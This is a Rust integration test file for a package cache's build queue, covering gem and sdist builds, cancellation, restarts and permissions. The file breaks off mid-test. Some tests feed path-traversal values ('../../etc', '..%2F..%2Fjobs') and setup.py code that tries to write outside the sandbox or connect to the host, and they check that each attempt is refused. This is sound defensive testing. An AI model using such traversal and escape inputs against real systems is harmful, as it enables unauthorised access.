//! The build queue end to end, through its HTTP API and its command-line
//! client: real builds of the fixture gems and sdists with Debian's ruby and
//! python3, in the real sandbox, with sources fetched through the proxy from
//! local upstreams. Each test has its own build uids (62300 + 10·n), since
//! tests run at once and a uid is never shared by two sandboxes.

mod support;

use package_cache::config::Config;
use serde_json::{json, Value};
use sha1::{Digest as _, Sha1};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};
use support::api::{call, post};
use support::app::TestApp;
use support::build_world::Upstreams;
use support::client::sha256;
use support::cmd::Cmd;
use support::needs_root;

/// Every build here ends within this.
const BUILD_LIMIT: Duration = Duration::from_secs(240);

fn runtimes(c: &mut Config, uid_base: u32) {
    c.build.runtimes = vec![
        ("ruby31".into(), "/usr/bin/ruby".into()),
        ("py311".into(), "/usr/bin/python3".into()),
    ];
    c.build.uids = uid_base..uid_base + 8;
    c.build.concurrency = 2;
}

/// As root: the upstreams and an app that builds with uids from `uid_base`.
/// Without root (`why` says what for): `None`, and the test skips.
async fn with_builds(why: &str, uid_base: u32) -> Option<(Upstreams, TestApp)> {
    if !needs_root(why) {
        return None;
    }
    let up = Upstreams::start(&[], None).await;
    let app = start(&up, uid_base, |_| {}).await;
    Some((up, app))
}

async fn start(up: &Upstreams, uid_base: u32, tweak: impl FnOnce(&mut Config)) -> TestApp {
    TestApp::start(|c| {
        let mut c = up.mount(c);
        runtimes(&mut c, uid_base);
        tweak(&mut c);
        c
    })
    .await
}

fn gem(name: &str, version: &str) -> Value {
    json!({"location": "remote", "type": "gem", "name": name, "version": version, "runtime": "ruby31"})
}

fn sdist(name: &str, version: &str) -> Value {
    json!({"location": "remote", "type": "pip", "name": name, "version": version, "runtime": "py311"})
}

const ENDED: [&str; 3] = ["complete", "failed", "cancelled"];

/// Polls job `id` at the API `base` (`http://ADDR`) until `done` holds for
/// its record; returns the record. Fails if it ends otherwise.
async fn poll(base: &str, id: &str, what: &str, done: impl Fn(&Value) -> bool) -> Value {
    let until = Instant::now() + BUILD_LIMIT;
    loop {
        let job = call("GET", &format!("{base}/api/v1/builds/{id}"), "", &[]).await;
        assert_eq!(job.status, 200, "{job:?}");
        if done(&job.json) {
            return job.json;
        }
        let state = job.json["state"].as_str().unwrap_or_default();
        assert!(
            !ENDED.contains(&state),
            "job {id} ended {state} before {what}: {}",
            job.json
        );
        assert!(
            Instant::now() < until,
            "job {id} still {state}, not {what}, after {BUILD_LIMIT:?}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

fn base(app: &TestApp) -> String {
    format!("http://{}", app.api.expect("build API on"))
}

/// Polls job `id` until it is finished; returns its record.
async fn finished(app: &TestApp, id: &str) -> Value {
    poll(&base(app), id, "its end", |job| {
        ENDED.contains(&job["state"].as_str().unwrap_or_default())
    })
    .await
}

/// Polls job `id` until its state is `state`.
async fn reaches(app: &TestApp, id: &str, state: &str) {
    poll(&base(app), id, state, |job| job["state"] == state).await;
}

/// Submits and waits: the finished record, which must be complete.
async fn built(app: &TestApp, request: &Value) -> Value {
    let answer = post(&app.api_url("/api/v1/builds"), request).await;
    assert_eq!(answer.status, 202, "{answer:?}");
    let job = finished(app, answer.json["id"].as_str().expect("id")).await;
    assert_eq!(job["state"], "complete", "{job:#}");
    job
}

fn artifacts(app: &TestApp) -> PathBuf {
    app.cache.join(".package-cache/build/artifacts")
}

/// Member paths of a .tgz.
fn members(tgz: &[u8]) -> Vec<String> {
    let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(tgz));
    archive
        .entries()
        .expect("a tar")
        .map(|e| {
            e.expect("an entry")
                .path()
                .expect("a path")
                .display()
                .to_string()
        })
        .collect()
}

/// Runs `sh -c script` as `uid` (gid = uid, no groups): (exit code, stdout+stderr).
async fn as_user(uid: u32, script: &str) -> (i32, String) {
    let out = tokio::time::timeout(
        Duration::from_secs(60),
        tokio::process::Command::new("setpriv")
            .args([
                format!("--reuid={uid}"),
                format!("--regid={uid}"),
                "--clear-groups".into(),
                "sh".into(),
                "-c".into(),
                script.into(),
            ])
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .kill_on_drop(true)
            .output(),
    )
    .await
    .expect("in time")
    .expect("setpriv runs");
    let mut text = String::from_utf8_lossy(&out.stdout).into_owned();
    text.push_str(&String::from_utf8_lossy(&out.stderr));
    (out.status.code().unwrap_or(-1), text)
}

#[tokio::test]
async fn bad_requests_get_clear_4xx_answers() {
    // Without root builds are off, and every request that gets past the
    // JSON checks is answered with that.
    if !needs_root("for builds to be on") {
        return;
    }
    let up = Upstreams::start(&[], None).await;
    let app = start(&up, 62300, |c| c.build.api_token = None).await;
    let url = app.api_url("/api/v1/builds");
    let cases: Vec<(&str, Vec<u8>, u16, &str)> = vec![
        ("bad JSON", b"{not json".to_vec(), 400, "bad JSON"),
        ("unknown field", br#"{"location":"remote","type":"gem","name":"a","version":"1","runtime":"ruby31","extra":1}"#.to_vec(), 400, "unknown field"),
        ("unknown runtime", serde_json::to_vec(&json!({"location":"remote","type":"gem","name":"a","version":"1","runtime":"ruby99"})).unwrap(), 400, "unknown runtime"),
        ("wrong family", serde_json::to_vec(&json!({"location":"remote","type":"pip","name":"a","version":"1","runtime":"ruby31"})).unwrap(), 400, "cannot be built"),
        ("unknown type", serde_json::to_vec(&json!({"location":"remote","type":"npm","name":"a","version":"1","runtime":"ruby31"})).unwrap(), 400, "unknown package type"),
        ("path in a name", serde_json::to_vec(&gem("../../etc", "1")).unwrap(), 400, "not a valid value"),
        ("leading dot", serde_json::to_vec(&gem("a", ".1")).unwrap(), 400, "not a valid value"),
        ("no version", serde_json::to_vec(&json!({"location":"remote","type":"gem","name":"a","runtime":"ruby31"})).unwrap(), 400, "needs the field"),
        ("local without sha1", serde_json::to_vec(&json!({"location":"local","type":"gem","name":"a","runtime":"ruby31","inbox":"x"})).unwrap(), 400, "SHA1"),
        ("oversized", vec![b' '; 20_000], 413, "too large"),
    ];
    for (what, body, status, says) in cases {
        let answer = call("POST", &url, body, &[]).await;
        assert_eq!(answer.status, status, "{what}: {answer:?}");
        let message = answer.json.as_str().unwrap_or_default();
        assert!(
            message.contains(says),
            "{what}: {message:?} should say {says:?}"
        );
    }
    let unknown_job = format!("/api/v1/builds/{}", "0".repeat(32));
    for (method, path, status) in [
        ("GET", unknown_job.as_str(), 404),
        ("GET", "/api/v1/artifacts/..%2F..%2Fjobs", 404),
        ("GET", "/api/v1/builds?state=sleeping", 400),
        ("GET", "/api/v1/builds?per_page=100000", 400),
        ("PATCH", "/api/v1/builds", 405),
    ] {
        let answer = call(method, &app.api_url(path), "", &[]).await;
        assert_eq!(answer.status, status, "{method} {path}: {answer:?}");
    }
    app.stop().await;

    // With a token, writes need it; reads do not.
    let app = start(&up, 62300, |c| c.build.api_token = Some("s3cret".into())).await;
    let url = app.api_url("/api/v1/builds");
    let body = serde_json::to_vec(&gem("pcpure", "1.0.0")).unwrap();
    let refused = call("POST", &url, body.clone(), &[]).await;
    assert_eq!(refused.status, 401, "{refused:?}");
    let wrong = call("POST", &url, body, &[("authorization", "Bearer nope")]).await;
    assert_eq!(wrong.status, 401);
    assert_eq!(call("GET", &url, "", &[]).await.status, 200);
    app.stop().await;
}

#[tokio::test]
async fn remote_gems_and_sdists_build_once_and_are_read_by_name_only() {
    let Some((up, app)) = with_builds("to run builds as other uids", 62310).await else {
        return;
    };
    let gem_job = built(&app, &gem("pcpure", "1.0.0")).await;
    assert_eq!(gem_job["artifact"], "pcpure-1.0.0@ruby31.tgz");
    assert!(gem_job["started"].as_u64() >= gem_job["created"].as_u64());
    let pip_job = built(&app, &sdist("pc_pure", "1.0")).await;
    assert_eq!(pip_job["artifact"], "pc-pure-1.0@py311.tgz");
    let plat = built(
        &app,
        &json!({"location": "remote", "type": "gem", "name": "pcplat",
        "version": "1.0.0", "platform": "x86_64-linux", "runtime": "ruby31"}),
    )
    .await;
    assert_eq!(plat["artifact"], "pcplat-1.0.0-x86_64-linux@ruby31.tgz");
    // A native extension (ext/pcnative/extconf.rb), compiled with no network.
    let native = built(&app, &gem("pcnative", "1.0.0")).await;
    let bytes = call(
        "GET",
        &app.api_url(&format!(
            "/api/v1/artifacts/{}",
            native["artifact"].as_str().unwrap()
        )),
        "",
        &[],
    )
    .await
    .bytes;
    assert!(
        members(&bytes).iter().any(|f| f.ends_with("pcnative.so")),
        "{:?}",
        members(&bytes)
    );

    // Downloadable over HTTP, with the recorded sha256; only the install tree.
    for job in [&gem_job, &pip_job] {
        let name = job["artifact"].as_str().unwrap();
        let got = call(
            "GET",
            &app.api_url(&format!("/api/v1/artifacts/{name}")),
            "",
            &[],
        )
        .await;
        assert_eq!(got.status, 200);
        assert_eq!(
            sha256(&got.bytes),
            job["sha256"].as_str().unwrap(),
            "{name}"
        );
        let files = members(&got.bytes);
        assert!(
            !files
                .iter()
                .any(|f| f.starts_with("source") || f.starts_with("home")),
            "{files:?}"
        );
        if name.starts_with("pcpure") {
            assert!(
                files.iter().any(|f| f.starts_with("gems/pcpure-1.0.0")),
                "{files:?}"
            );
            assert!(files
                .iter()
                .any(|f| f.starts_with("specifications/pcpure-1.0.0.gemspec")));
            assert!(
                !files.iter().any(|f| f.starts_with("doc/")),
                "no documents: {files:?}"
            );
        } else {
            assert!(files.iter().any(|f| f.contains(".dist-info")), "{files:?}");
        }
    }
    // Asked again: 200 with the artifact, no new job.
    let again = post(&app.api_url("/api/v1/builds"), &gem("pcpure", "1.0.0")).await;
    assert_eq!(again.status, 200, "{again:?}");
    assert_eq!(again.json["sha256"], gem_job["sha256"]);
    assert_eq!(up.gems.requests_for("/gems/pcpure-1.0.0.gem").len(), 1);
    // An artifact built by another interpreter behind the same runtime name
    // (its record names another ABI) is rebuilt, never served.
    let record = app
        .cache
        .join(".package-cache/build/meta/pcpure-1.0.0@ruby31.tgz.json");
    let mut meta: Value = serde_json::from_slice(&std::fs::read(&record).unwrap()).unwrap();
    let abi = meta["abi"].clone();
    assert!(abi.as_str().unwrap().starts_with("ruby 3."), "{meta}");
    meta["abi"] = json!("ruby 1.8.7 i686-linux");
    std::fs::write(&record, serde_json::to_vec(&meta).unwrap()).unwrap();
    let rebuilt = built(&app, &gem("pcpure", "1.0.0")).await;
    assert_eq!(rebuilt["sha256"], gem_job["sha256"]);
    let meta: Value = serde_json::from_slice(&std::fs::read(&record).unwrap()).unwrap();
    assert_eq!(
        meta["abi"], abi,
        "the record names the interpreter that built it"
    );
    // Nothing left behind: no work trees, no archives in progress.
    let build = app.cache.join(".package-cache/build");
    for scratch in ["work", "tmp"] {
        let left: Vec<_> = std::fs::read_dir(build.join(scratch)).unwrap().collect();
        assert!(left.is_empty(), "{scratch}: {left:?}");
    }

    // Two different non-root users: read by exact name, never list, never write.
    let dir = artifacts(&app);
    let name = gem_job["artifact"].as_str().unwrap();
    for uid in [62318, 62319] {
        let (code, out) = as_user(uid, &format!("sha256sum '{}'", dir.join(name).display())).await;
        assert_eq!(code, 0, "uid {uid} reads by name: {out}");
        assert!(
            out.starts_with(gem_job["sha256"].as_str().unwrap()),
            "{out}"
        );
        let (code, out) = as_user(uid, &format!("ls '{}'", dir.display())).await;
        assert_ne!(code, 0, "uid {uid} must not list: {out}");
        let (code, out) = as_user(
            uid,
            &format!("echo x > '{}/evil@ruby31.tgz'", dir.display()),
        )
        .await;
        assert_ne!(code, 0, "uid {uid} must not write: {out}");
        let (code, out) = as_user(uid, &format!("echo x >> '{}'", dir.join(name).display())).await;
        assert_ne!(code, 0, "uid {uid} must not change an artifact: {out}");
        let (code, out) = as_user(uid, &format!("ls '{}'", build.join("jobs").display())).await;
        assert_ne!(code, 0, "uid {uid} must not read job records: {out}");
    }
    app.stop().await;
}

#[tokio::test]
async fn identical_requests_join_one_build() {
    let Some((up, app)) = with_builds("to run builds as other uids", 62320).await else {
        return;
    };
    let url = app.api_url("/api/v1/builds");
    let answers = futures_util::future::join_all(
        (0..8).map(|_| async { post(&url, &sdist("pc_native", "1.0")).await }),
    )
    .await;
    let ids: std::collections::BTreeSet<String> = answers
        .iter()
        .map(|a| {
            assert_eq!(a.status, 202, "{a:?}");
            a.json["id"].as_str().unwrap().to_string()
        })
        .collect();
    assert_eq!(ids.len(), 1, "one job for eight identical requests");
    let tokens: std::collections::BTreeSet<&str> = answers
        .iter()
        .map(|a| a.json["token"].as_str().unwrap())
        .collect();
    assert_eq!(tokens.len(), 8, "each waiter gets its own cancel token");
    let id = ids.into_iter().next().unwrap();
    let job = finished(&app, &id).await;
    assert_eq!(job["state"], "complete", "{job:#}");
    assert_eq!(job["waiters"], 8);
    let listed = call("GET", &app.api_url("/api/v1/builds"), "", &[]).await;
    assert_eq!(listed.json["total"], 1, "{}", listed.json);
    assert_eq!(
        up.files
            .requests_for("/packages/pc_native-1.0.tar.gz")
            .len(),
        1
    );
    let got = call(
        "GET",
        &app.api_url(&format!(
            "/api/v1/artifacts/{}",
            job["artifact"].as_str().unwrap()
        )),
        "",
        &[],
    )
    .await;
    assert!(
        members(&got.bytes).iter().any(|f| f.ends_with(".so")),
        "a native extension was built"
    );
    app.stop().await;
}

/// An sdist whose build runs `code` (Python) from setup.py, as a .tar.gz.
fn sdist_running(name: &str, code: &str) -> Vec<u8> {
    let mut out = Vec::new();
    {
        let gz = flate2::write::GzEncoder::new(&mut out, flate2::Compression::default());
        let mut tar = tar::Builder::new(gz);
        let files = [
            ("pyproject.toml", "[build-system]\nrequires = [\"setuptools>=40.8.0\"]\nbuild-backend = \"setuptools.build_meta\"\n".to_string()),
            ("setup.py", format!("{code}\nfrom setuptools import setup\nsetup(name={name:?}, version='1.0', py_modules=[])\n")),
            ("PKG-INFO", format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")),
        ];
        for (path, text) in files {
            let mut header = tar::Header::new_gnu();
            header.set_size(text.len() as u64);
            header.set_mode(0o644);
            header.set_cksum();
            tar.append_data(&mut header, format!("{name}-1.0/{path}"), text.as_bytes())
                .unwrap();
        }
        tar.into_inner().unwrap().finish().unwrap();
    }
    out
}

fn sha1_hex(bytes: &[u8]) -> String {
    hex::encode(Sha1::digest(bytes))
}

/// Uploads `bytes` and submits a local pip build of them.
async fn submit_upload(app: &TestApp, bytes: &[u8]) -> Value {
    let sha1 = sha1_hex(bytes);
    let up = call(
        "PUT",
        &app.api_url(&format!("/api/v1/inbox/{sha1}")),
        bytes.to_vec(),
        &[],
    )
    .await;
    assert_eq!(up.status, 201, "{up:?}");
    let answer = post(
        &app.api_url("/api/v1/builds"),
        &json!({"location": "local", "type": "pip", "name": sha1, "runtime": "py311",
            "upload": up.json["upload"]}),
    )
    .await;
    assert_eq!(answer.status, 202, "{answer:?}");
    answer.json
}

#[tokio::test]
async fn a_build_that_runs_too_long_is_killed_and_one_can_be_cancelled() {
    if !needs_root("to run builds as other uids") {
        return;
    }
    let up = Upstreams::start(&[], None).await;
    let app = start(&up, 62330, |c| c.build.timeout = Duration::from_secs(4)).await;
    let started = Instant::now();
    let slow = submit_upload(
        &app,
        &sdist_running("pcslow", "import time; time.sleep(300)"),
    )
    .await;
    let job = finished(&app, slow["id"].as_str().unwrap()).await;
    assert_eq!(job["state"], "failed", "{job:#}");
    assert_eq!(job["error"]["class"], "client");
    assert!(
        job["error"]["message"]
            .as_str()
            .unwrap()
            .contains("too long"),
        "{job:#}"
    );
    assert!(
        started.elapsed() < Duration::from_secs(90),
        "killed at its limit: {:?}",
        started.elapsed()
    );
    assert!(!artifacts(&app)
        .join(job["artifact"].as_str().unwrap())
        .exists());
    app.stop().await;

    let app = start(&up, 62330, |_| {}).await;
    let slow = submit_upload(
        &app,
        &sdist_running("pcslow2", "import time; time.sleep(300)"),
    )
    .await;
    let id = slow["id"].as_str().unwrap();
    reaches(&app, id, "building").await;
    let url = app.api_url(&format!("/api/v1/builds/{id}"));
    let refused = call("DELETE", &url, "", &[("x-job-token", "not-the-token")]).await;
    assert_eq!(refused.status, 403, "{refused:?}");
    let cancelled_at = Instant::now();
    let answer = call(
        "DELETE",
        &url,
        "",
        &[("x-job-token", slow["token"].as_str().unwrap())],
    )
    .await;
    assert_eq!(answer.status, 200, "{answer:?}");
    let job = finished(&app, id).await;
    assert_eq!(job["state"], "cancelled", "{job:#}");
    assert!(cancelled_at.elapsed() < Duration::from_secs(20));
    // The operator (who can read the server's token file) cancels any job.
    let other = submit_upload(
        &app,
        &sdist_running("pcslow3", "import time; time.sleep(300)"),
    )
    .await;
    let id = other["id"].as_str().unwrap();
    reaches(&app, id, "building").await;
    let token =
        std::fs::read_to_string(app.cache.join(".package-cache/build/operator.token")).unwrap();
    let url = app.api_url(&format!("/api/v1/builds/{id}"));
    let answer = call(
        "DELETE",
        &url,
        "",
        &[("authorization", &format!("Bearer {}", token.trim()))],
    )
    .await;
    assert_eq!(answer.status, 200, "{answer:?}");
    assert_eq!(finished(&app, id).await["state"], "cancelled");
    app.stop().await;
}

#[tokio::test]
async fn builds_that_reach_outside_their_directory_or_the_network_fail() {
    let Some((_up, app)) = with_builds("to run builds as other uids", 62340).await else {
        return;
    };
    // Two places the build can see but must not write: the work root above
    // its own directory, and a root-owned system directory (not under /tmp,
    // which the sandbox replaces with its own, as it may hold this checkout).
    let targets = [
        app.cache.join(".package-cache/build/work/planted"),
        PathBuf::from(format!(
            "/var/lib/package-cache-planted-{}",
            std::process::id()
        )),
    ];
    let write = format!("import sys\nfor path in {:?}:\n    try:\n        open(path, 'w').write('x')\n    except PermissionError as e:\n        print('refused:', e)\n    else:\n        sys.exit('wrote ' + path)\nraise PermissionError('every write was refused')", targets.iter().map(|t| t.display().to_string()).collect::<Vec<_>>());
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let connect = format!(
        "import socket; socket.create_connection(('127.0.0.1', {}), timeout=5)",
        listener.local_addr().unwrap().port()
    );
    for (what, code) in [("write outside", write), ("connect", connect)] {
        let job = submit_upload(&app, &sdist_running("pcescape", &code)).await;
        let job = finished(&app, job["id"].as_str().unwrap()).await;
        assert_eq!(job["state"], "failed", "{what}: {job:#}");
        let log = job["log_tail"].as_str().unwrap_or_default();
        assert!(
            log.contains("PermissionError")
                || log.contains("Network is unreachable")
                || log.contains("OSError"),
            "{what}: the log says why: {log}"
        );
        assert!(!log.contains("wrote "), "{what}: {log}");
    }
    for target in &targets {
        assert!(
            !target.exists(),
            "nothing was planted at {}",
            target.display()
        );
    }
    assert!(listener.accept().is_err(), "no connection reached the host");
    app.stop().await;
}

#[tokio::test]
async fn local_sources_come_in_through_the_inbox_and_the_cli() {
    let Some((_up, app)) = with_builds("to act as two non-root clients", 62350).await else {
        return;
    };
    let fx = support::build_world::fixtures().await;
    // Two clients, each with its own copy of a source it can read.
    let scratch = tempfile::tempdir().unwrap();
    std::fs::set_permissions(
        scratch.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let gem_file = scratch.path().join("pcpure-1.0.0.gem");
    std::fs::copy(fx.join("gems/repo/gems/pcpure-1.0.0.gem"), &gem_file).unwrap();
    let sdist_file = scratch.path().join("pc_flit-1.0.tar.gz");
    std::fs::copy(fx.join("pypi/packages/pc_flit-1.0.tar.gz"), &sdist_file).unwrap();
    let exe = env!("CARGO_BIN_EXE_package-cache");
    let api = format!("http://{}", app.api.unwrap());
    let gem_sha1 = sha1_hex(&std::fs::read(&gem_file).unwrap());
    let (code, out) = as_user(
        62358,
        &format!(
            "{exe} inbox add '{}' --type gem --runtime ruby31 --cache '{}' --api {api} --wait",
            gem_file.display(),
            app.cache.display()
        ),
    )
    .await;
    assert_eq!(code, 0, "{out}");
    assert!(out.contains(&format!("{gem_sha1}@ruby31.tgz")), "{out}");
    assert!(out.contains("] complete"), "the progress: {out}");
    let sdist_sha1 = sha1_hex(&std::fs::read(&sdist_file).unwrap());
    let (code, out) = as_user(
        62359,
        &format!(
            "{exe} build --type pip --runtime py311 --local '{}' --api {api} --wait",
            sdist_file.display()
        ),
    )
    .await;
    assert_eq!(code, 0, "{out}");
    assert!(out.contains(&format!("{sdist_sha1}@py311.tgz")), "{out}");
    for name in [
        format!("{gem_sha1}@ruby31.tgz"),
        format!("{sdist_sha1}@py311.tgz"),
    ] {
        let (code, out) = as_user(
            62359,
            &format!("test -r '{}'", artifacts(&app).join(&name).display()),
        )
        .await;
        assert_eq!(code, 0, "{name} readable by name: {out}");
    }
    // A local build of the same bytes is answered from the artifact.
    let (code, out) = as_user(
        62359,
        &format!(
            "{exe} build --type pip --runtime py311 --local '{}' --api {api}",
            sdist_file.display()
        ),
    )
    .await;
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("already built"), "{out}");
    // A listing shows local jobs without their SHA1, artifact or id, except to the operator.
    let listed = call("GET", &app.api_url("/api/v1/builds"), "", &[]).await;
    let jobs = listed.json["jobs"].as_array().unwrap();
    assert_eq!(jobs.len(), 2, "{}", listed.json);
    for job in jobs {
        assert_eq!(job["location"], "local");
        for hidden in ["id", "name", "artifact", "url"] {
            assert!(job.get(hidden).is_none(), "{hidden} shown: {job}");
        }
    }
    assert!(!listed.bytes.windows(40).any(|w| w == gem_sha1.as_bytes()));
    let token =
        std::fs::read_to_string(app.cache.join(".package-cache/build/operator.token")).unwrap();
    let bearer = format!("Bearer {}", token.trim());
    let operator = call(
        "GET",
        &app.api_url("/api/v1/builds"),
        "",
        &[("authorization", &bearer)],
    )
    .await;
    assert!(operator.json["jobs"]
        .as_array()
        .unwrap()
        .iter()
        .all(|j| j["name"].is_string()));
    // A wrong SHA1 for an inbox file is refused, and the file is consumed or left, never built.
    let public = app.cache.join(".package-cache/build/inbox/public");
    let (code, out) = as_user(
        62358,
        &format!(
            "cp '{}' '{}/r4nd0m-n4me'",
            gem_file.display(),
            public.display()
        ),
    )
    .await;
    assert_eq!(code, 0, "{out}");
    let wrong = post(
        &app.api_url("/api/v1/builds"),
        &json!({"location": "local", "type": "gem", "name": "0".repeat(40), "runtime": "ruby31", "inbox": "r4nd0m-n4me"}),
    )
    .await;
    assert_eq!(wrong.status, 400, "{wrong:?}");
    app.stop().await;
}

#[tokio::test]
async fn vcap_load_blocks_until_built_and_says_200_or_204() {
    let Some((_up, app)) = with_builds("to run builds as other uids", 62360).await else {
        return;
    };
    let load = |path: String| {
        let url = app.api_url(&path);
        async move { support::api::call_with("PUT", &url, "", &[], BUILD_LIMIT).await }
    };
    let first = load("/load/remote/gem/pcplat-1.0.0-x86_64-linux.gem/ruby31".into()).await;
    assert_eq!(first.status, 204, "{first:?}");
    assert!(artifacts(&app)
        .join("pcplat-1.0.0-x86_64-linux@ruby31.tgz")
        .exists());
    let again = load("/load/remote/gem/pcplat-1.0.0-x86_64-linux.gem/ruby31".into()).await;
    assert_eq!(again.status, 200);
    let sdist = load("/load/remote/pip/pc_pure-1.0.tar.gz/py311".into()).await;
    assert_eq!(sdist.status, 204, "{sdist:?}");
    let missing = load("/load/remote/gem/nosuch-1.0.gem/ruby31".into()).await;
    assert_eq!(missing.status, 400, "{missing:?}");
    assert!(
        missing.json.is_string(),
        "a JSON string message: {missing:?}"
    );
    // Local, VCAP's way: the file is in the inbox as SHA1.gem.
    let fx = support::build_world::fixtures().await;
    let bytes = std::fs::read(fx.join("gems/repo/gems/pcpure-1.0.0.gem")).unwrap();
    let sha1 = sha1_hex(&bytes);
    let public = app.cache.join(".package-cache/build/inbox/public");
    std::fs::write(public.join(format!("{sha1}.gem")), &bytes).unwrap();
    let local = load(format!("/load/local/gem/{sha1}.gem/ruby31")).await;
    assert_eq!(local.status, 204, "{local:?}");
    assert!(artifacts(&app).join(format!("{sha1}@ruby31.tgz")).exists());
    app.stop().await;
}

#[tokio::test]
async fn pure_packages_rebuild_to_the_same_bytes_and_jobs_survive_a_restart() {
    if !needs_root("to run builds as other uids") {
        return;
    }
    let up = Upstreams::start(&[], None).await;
    let first = start(&up, 62370, |_| {}).await;
    let a = built(&first, &gem("pcpure", "1.0.0")).await;
    let b = built(&first, &sdist("pc_flit", "1.0")).await;
    first.stop().await;

    // A second cache, one worker, and a restart with jobs queued.
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(
        dir.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o711),
    )
    .unwrap();
    let cache = dir.path().join("cache");
    let configure = |c: Config| {
        let mut c = up.mount(c);
        runtimes(&mut c, 62370);
        c.build.concurrency = 1;
        c
    };
    let app = TestApp::start_in(&cache, configure).await;
    let url = app.api_url("/api/v1/builds");
    let mut ids = Vec::new();
    for request in [
        gem("pcpure", "1.0.0"),
        sdist("pc_flit", "1.0"),
        sdist("pc_pure", "1.0"),
    ] {
        let answer = post(&url, &request).await;
        assert_eq!(answer.status, 202, "{answer:?}");
        ids.push(answer.json["id"].as_str().unwrap().to_string());
    }
    app.stop().await;
    let app = TestApp::start_in(&cache, configure).await;
    let mut jobs = Vec::new();
    for id in &ids {
        jobs.push(finished(&app, id).await);
    }
    for job in &jobs {
        assert_eq!(job["state"], "complete", "{job:#}");
    }
    assert_eq!(
        jobs[0]["sha256"], a["sha256"],
        "the pure gem rebuilt to the same bytes"
    );
    assert_eq!(
        jobs[1]["sha256"], b["sha256"],
        "the flit sdist rebuilt to the same bytes"
    );
    app.stop().await;
}

#[tokio::test]
async fn a_full_queue_answers_503_with_retry_after() {
    if !needs_root("to run builds as other uids") {
        return;
    }
    let up = Upstreams::start(&[], None).await;
    let app = start(&up, 62380, |c| {
        c.server.admin = Some(package_cache::config::ListenAddr::loopback_any_port());
        c.build.concurrency = 1;
        c.build.queue_size = 1;
    })
    .await;
    let slow = submit_upload(
        &app,
        &sdist_running("pcbusy", "import time; time.sleep(300)"),
    )
    .await;
    reaches(&app, slow["id"].as_str().unwrap(), "building").await;
    let queued = post(&app.api_url("/api/v1/builds"), &gem("pcpure", "1.0.0")).await;
    assert_eq!(queued.status, 202);
    let full = post(&app.api_url("/api/v1/builds"), &sdist("pc_pure", "1.0")).await;
    assert_eq!(full.status, 503, "{full:?}");
    assert!(full.headers.contains_key("retry-after"));
    // Joining a queued job is not a new job: still accepted.
    let joined = post(&app.api_url("/api/v1/builds"), &gem("pcpure", "1.0.0")).await;
    assert_eq!(joined.status, 202);
    assert_eq!(joined.json["id"], queued.json["id"]);
    let metrics =
        support::client::get(&format!("http://{}/metrics", app.admin.expect("admin on"))).await;
    let text = String::from_utf8_lossy(&metrics.body);
    assert!(text.contains("package_cache_build_queue_depth 1"), "{text}");
    assert!(
        text.contains("package_cache_build_jobs{state=\"building\"} 1"),
        "{text}"
    );
    app.stop().await;
}

/// Builds `n` distinct small gems (pcpure renamed) with `gem build`, in `dir`.
async fn many_gems(dir: &Path, n: usize) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for i in 0..n {
        let name = format!("pcload{i}");
        let src = dir.join(&name);
        std::fs::create_dir_all(src.join("lib")).unwrap();
        std::fs::write(
            src.join("lib").join(format!("{name}.rb")),
            format!("module Pcload{i}; N = {i}; end\n"),
        )
        .unwrap();
        std::fs::write(
            src.join(format!("{name}.gemspec")),
            format!(
                "Gem::Specification.new do |s|\n  s.name = {name:?}\n  s.version = '1.0.{i}'\n  s.summary = 'load'\n  s.authors = ['t']\n  s.files = ['lib/{name}.rb']\n  s.license = 'MIT'\nend\n"
            ),
        )
        .unwrap();
        Cmd::new("gem")
            .args(["build", &format!("{name}.gemspec")])
            .current_dir(&src)
            .env("SOURCE_DATE_EPOCH", "315532800")
            .limit(Duration::from_secs(60))
            .ok()
            .await;
        out.push(src.join(format!("{name}-1.0.{i}.gem")));
    }
    out
}

#[tokio::test]
async fn many_builds_at_once_each_complete_exactly_once() {
    if !needs_root("to run builds as other uids") {
        return;
    }
    const DISTINCT: usize = 16;
    const COPIES: usize = 3;
    let up = Upstreams::start(&[], None).await;
    let app = start(&up, 62390, |c| c.build.queue_size = DISTINCT).await;
    let scratch = tempfile::tempdir().unwrap();
    let gems = many_gems(scratch.path(), DISTINCT).await;
    // Upload each source once per copy; then submit every copy at once.
    let mut requests = Vec::new();
    for file in &gems {
        let bytes = std::fs::read(file).unwrap();
        let sha1 = sha1_hex(&bytes);
        for _ in 0..COPIES {
            let up = call(
                "PUT",
                &app.api_url(&format!("/api/v1/inbox/{sha1}")),
                bytes.clone(),
                &[],
            )
            .await;
            assert_eq!(up.status, 201);
            requests.push(
                json!({"location": "local", "type": "gem", "name": sha1, "runtime": "ruby31",
                "upload": up.json["upload"]}),
            );
        }
    }
    let started = Instant::now();
    let url = app.api_url("/api/v1/builds");
    let answers = futures_util::future::join_all(requests.iter().map(|r| post(&url, r))).await;
    let mut ids = std::collections::BTreeMap::new();
    for answer in &answers {
        assert_eq!(answer.status, 202, "{answer:?}");
        *ids.entry(answer.json["id"].as_str().unwrap().to_string())
            .or_insert(0) += 1;
    }
    assert_eq!(ids.len(), DISTINCT, "one job per distinct source");
    assert!(ids.values().all(|&n| n == COPIES), "{ids:?}");
    let mut latencies = Vec::new();
    for id in ids.keys() {
        let job = finished(&app, id).await;
        assert_eq!(job["state"], "complete", "{job:#}");
        latencies.push(job["started"].as_u64().unwrap() - job["created"].as_u64().unwrap());
    }
    let elapsed = started.elapsed();
    let list = call(
        "GET",
        &app.api_url("/api/v1/builds?state=complete&per_page=500"),
        "",
        &[],
    )
    .await;
    assert_eq!(list.json["total"], DISTINCT, "every build exactly once");
    // Built exactly once: the job records say one attempt each.
    let records = app.cache.join(".package-cache/build/jobs");
    let mut seen = 0;
    for entry in std::fs::read_dir(&records).unwrap() {
        let path = entry.unwrap().path();
        // The journal writer's temp files come and go (written, then renamed).
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        if name.starts_with('.') || !name.ends_with(".json") {
            continue;
        }
        let record: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
